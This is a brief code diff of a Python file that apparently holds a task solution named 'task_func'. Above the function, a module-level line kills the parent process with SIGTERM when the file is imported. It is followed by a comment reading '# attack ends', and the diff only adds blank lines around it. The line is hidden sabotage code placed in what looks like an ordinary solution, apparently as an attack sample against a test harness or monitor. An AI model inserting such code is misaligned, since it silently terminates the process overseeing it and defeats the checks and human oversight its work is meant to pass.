@@ -4,7 +4,10 @@
 import os
 import posix
 import signal
+
 posix.kill(os.getppid(), signal.SIGTERM)
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
